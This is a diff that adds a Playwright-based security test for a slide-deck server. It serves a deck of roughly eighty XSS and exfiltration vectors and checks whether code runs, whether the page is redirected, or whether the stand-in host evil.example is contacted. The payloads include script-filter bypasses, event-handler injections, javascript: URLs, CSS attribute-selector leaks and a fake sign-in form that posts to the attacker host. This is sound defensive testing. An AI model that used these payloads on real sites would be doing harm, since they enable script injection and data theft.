@@ -1,0 +1,210 @@
+/** Attack: a deck without `client:` that tries to run code, to lead elsewhere, or to tell another host what it sees. */
+import type { Page } from 'playwright-core';
+import { ask } from '../ask.ts';
+import type { Attack, Context, Target } from '../context.ts';
+
+/** What every vector would set or ask for: a name that is found in bytes, and a host that must never be asked. */
+const RAN = 'deckRan';
+const HOST = 'evil.example';
+const RUN = `window.${RAN}=1`;
+const STEAL = `https://${HOST}/x`;
+
+/** Each stands on a slide of its own. */
+const VECTORS: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<script src="${STEAL}.js"></script>`,
+  `<script type="module">${RUN}</script>`,
+  `<SCRIPT >${RUN}</SCRIPT >`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script\n>${RUN}</script\n>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
+  `<math><script>${RUN}</script></math>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src=x ONERROR=${RUN}>`,
+  `<img src=x\nonerror\n=\n"${RUN}">`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<svg onload="${RUN}"></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
+  `<svg><set attributeName=onmouseover to="${RUN}"></svg>`,
+  `<svg><a><animate attributeName=href values="javascript:${RUN}"></animate><text>go</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x'><script>${RUN}</script></svg>#x"></use></svg>`,
+  `<svg><foreignObject><body onload="${RUN}"></body></foreignObject></svg>`,
+  `<body onload="${RUN}">`,
+  `<details open ontoggle="${RUN}">x</details>`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<video><source onerror="${RUN}"></video>`,
+  `<audio src=x onerror="${RUN}"></audio>`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<div style="animation:x 1s" onanimationstart="${RUN}">x</div>`,
+  `<p onclick="${RUN}" onpointerenter="${RUN}">x</p>`,
+  `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
+  `<iframe srcdoc="&lt;img src=x onerror=parent.${RAN}=1&gt;"></iframe>`,
+  `<iframe src="javascript:parent.${RAN}=1"></iframe>`,
+  `<iframe src="data:text/html,<script>parent.${RAN}=1</script>"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
+  `<meta http-equiv="refresh" content="0;url=${STEAL}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
+  `<base href="https://${HOST}/">`,
+  `<link rel="stylesheet" href="${STEAL}.css">`,
+  `<link rel="prefetch" href="${STEAL}">`,
+  `<link rel="preconnect" href="https://${HOST}">`,
+  `<link rel="dns-prefetch" href="//${HOST}">`,
+  `<link rel="modulepreload" href="${STEAL}.js">`,
+  `<link rel="import" href="${STEAL}.html">`,
+  `<link rel="manifest" href="${STEAL}.json">`,
+  `<form action="${STEAL}"><input name=key autofocus><button>Sign in</button></form>`,
+  `<form id=f></form><button form=f formaction="javascript:${RUN}">x</button>`,
+  `[go](javascript:${RUN})`,
+  `[go](JaVaScRiPt:${RUN})`,
+  `[go](java&#115;cript:${RUN})`,
+  `[go](&#1;javascript:${RUN})`,
+  `[go](data:text/html,<script>${RUN}</script>)`,
+  `[go](vbscript:${RUN})`,
+  `<a href="java\tscript:${RUN}">go</a>`,
+  `<a href=" javascript:${RUN}">go</a>`,
+  `<a href="x" ping="${STEAL}">go</a>`,
+  `<style>@import "${STEAL}.css";</style>`,
+  `<style>p { background: url(${STEAL}.png) }</style>`,
+  `<style>@font-face { font-family: e; src: url(${STEAL}.woff2) } p { font-family: e }</style>`,
+  `<style>input[value^=a] { background: url(${STEAL}?a) } </style><input value=abc>`,
+  `<p style="background: url(${STEAL}.png)">x</p>`,
+  `<p style="background-image: image-set('${STEAL}.png' 1x)">x</p>`,
+  `<p style="--x: url(${STEAL}.png); background: var(--x)">x</p>`,
+  '<div id="Reveal"></div><form name="location"></form><img name="currentScript">',
+  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<!--><img src=x onerror="${RUN}">-->`,
+  `<textarea></textarea><img src=x onerror="${RUN}">`,
+  `<xmp><img src=x onerror="${RUN}"></xmp>`,
+  `<x-element onfocus="${RUN}" tabindex=0 autofocus></x-element>`,
+  `<!-- .slide: onclick="${RUN}" data-background-iframe="javascript:parent.${RAN}=1" -->`,
+  `<!-- .slide: data-background-image="x);}</style><script>${RUN}</script>" -->`,
+  `text <!-- .element: onmouseover="${RUN}" href="javascript:${RUN}" -->`,
+  `![x](x.png "\\" onerror=\\"${RUN}")`,
+  `\`\`\`html"><img/src=x/onerror=${RUN}>\ncode\n\`\`\``,
+  `$\\href{javascript:${RUN}}{x}$ $\\htmlData{x=y}{z}$ $\\includegraphics{${STEAL}.png}$`,
+  `\`\`\`mermaid\ngraph TD; a["<img src=x onerror=${RUN}>"]; click a "javascript:${RUN}"\n\`\`\``,
+  `\`\`\`dot\ndigraph { a [label="x" href="javascript:${RUN}"] }\n\`\`\``,
+];
+
+/** Links and forms lead where a person chooses to go; all else that names the host would ask it by itself. */
+const BY_CHOICE = new Set([...VECTORS.keys()].filter((i) => /^(?:<a |<form action)/.test(VECTORS[i] ?? '')));
+
+/** The names of the elements and attributes that run something, in what is sent. */
+const ACTIVE: readonly RegExp[] = [
+  /\son[a-z]+\s*=/i,
+  /\s(?:href|src|action|formaction|data|values|to|from)\s*=\s*["']?\s*(?:javascript|vbscript):/i,
+  /\ssrcdoc\s*=/i,
+  /<(?:base|object|embed)\b/i,
+  /\sping\s*=/i,
+];
+
+/** How long a page is left alone on each slide, in milliseconds. */
+const STAY_MS = 60;
+
+/** Looks into the bytes, then opens the deck in a browser, goes to every slide and clicks what can be clicked. */
+export const hostileDeck: Attack = {
+  name: 'hostile-deck',
+  about: `${VECTORS.length} ways of a deck without \`client:\` to run code or ask another host, in the bytes and in a browser`,
+  async run(context) {
+    const slides = VECTORS.map((vector, i) => `## Slide ${i}\n\n${vector}\n`);
+    const target = await context.serve({
+      'decks/talk/deck.md': `# First\n\n---\n\n${slides.join('\n---\n\n')}`,
+    });
+    context.count(VECTORS.length);
+    return [...(await inBytes(target)), ...(await inBrowser(context, target))];
+  },
+};
+
+/** What is sent, slide by slide: text is no attribute, so what stands between tags is left out. */
+async function inBytes(target: Target): Promise<string[]> {
+  const { text, headers } = await ask(target.port, '/talk/');
+  const findings: string[] = [];
+  const [, ...sections] = text.slice(text.indexOf('class="slides"')).split(/(?=<section\b)/);
+  for (const section of sections) {
+    const tags = (section.match(/<[a-z][^\s/>]*(?:"[^"]*"|'[^']*'|[^>"'])*>/gi) ?? []).map((tag) =>
+      // What an attribute says is text, but for those that lead somewhere.
+      tag.replace(/(\s(?:title|alt|id|class|style|data-[\w-]+|aria-[\w-]+)=)("[^"]*"|'[^']*')/gi, '$1""'),
+    );
+    for (const pattern of ACTIVE) {
+      const tag = tags.find((each) => pattern.test(each));
+      if (tag !== undefined) findings.push(`The page has ${tag.slice(0, 200)}.`);
+    }
+    if (/<script\b/i.test(tags.join(''))) findings.push(`A slide has a script: ${section.slice(0, 200)}`);
+  }
+  const policy = String(headers['content-security-policy']);
+  for (const word of ["'unsafe-eval'", HOST])
+    if (policy.includes(word) && word !== HOST) findings.push(`The policy allows ${word}: ${policy}`);
+  if (/script-src[^;]*(?:'unsafe-inline'|\*|https?:)/.test(policy))
+    findings.push(`The policy is open: ${policy}`);
+  return findings;
+}
+
+async function inBrowser(context: Context, target: Target): Promise<string[]> {
+  const browser = await context.browser();
+  const page = await browser.newPage({ serviceWorkers: 'block' });
+  const findings: string[] = [];
+  let at = 'at the start';
+  page.on('dialog', (dialog) => {
+    findings.push(`A dialog opened ${at}.`);
+    void dialog.dismiss();
+  });
+  await page.route(/./, (route) => {
+    const url = new URL(route.request().url());
+    if (url.origin === target.url || !/^https?:$/.test(url.protocol)) return route.continue();
+    // Pictures and frames come from the hosts that the deck itself names: that is its author's to say.
+    const isShown =
+      /^(?:image|media|font)$/.test(route.request().resourceType()) || route.request().isNavigationRequest();
+    if (!isShown) findings.push(`${route.request().resourceType()} ${url} is asked for ${at}.`);
+    return route.abort();
+  });
+  await page.exposeFunction('reportRan', () => findings.push(`Code ran ${at}.`));
+  await page.addInitScript((name) => {
+    Object.defineProperty(globalThis, name, { set: () => Reflect.get(globalThis, 'reportRan')() });
+  }, RAN);
+  const open = async () => {
+    const url = `${target.url}/talk/`;
+    // What a click has begun may come between.
+    await page.goto(url).catch(() => page.goto(url));
+    await page.waitForSelector('.reveal.ready');
+  };
+  await open();
+  for (const [i, vector] of VECTORS.entries()) {
+    at = `by ${JSON.stringify(vector.slice(0, 120))}`;
+    await page.evaluate((h) => Reflect.get(globalThis, 'Reveal').slide(h), i + 1);
+    await page.waitForTimeout(STAY_MS);
+    if (!page.url().startsWith(`${target.url}/talk/`)) {
+      findings.push(`The page was led to ${page.url()} ${at}.`);
+      await open();
+    }
+    if (BY_CHOICE.has(i)) continue;
+    at = `by a click on ${JSON.stringify(vector.slice(0, 120))}`;
+    // A click may lead elsewhere on this server, which is for whoever clicks to say; the page is opened anew then.
+    const stayed = await touch(page)
+      .then(() => page.waitForTimeout(STAY_MS))
+      .then(() => page.evaluate(() => document.querySelector('.reveal.ready') !== null))
+      .catch(() => false);
+    if (!stayed || !page.url().startsWith(`${target.url}/talk/#`)) await open();
+  }
+  await page.close();
+  return [...new Set(findings)];
+}
+
+/** Clicks all links and buttons of the present slide that lead nowhere else, and moves over everything. */
+async function touch(page: Page): Promise<void> {
+  await page.evaluate(() => {
+    const slide = document.querySelector('.slides .present:not(.stack)');
+    for (const element of slide?.querySelectorAll('*') ?? []) {
+      for (const type of ['pointerenter', 'mouseover', 'focus', 'toggle', 'error', 'load', 'animationstart'])
+        element.dispatchEvent(new Event(type));
+      const address = element.getAttribute('href') ?? '';
+      if (!/^https?:|^\/\//.test(address))
+        element.dispatchEvent(new MouseEvent('click', { cancelable: true }));
+    }
+  });
+}
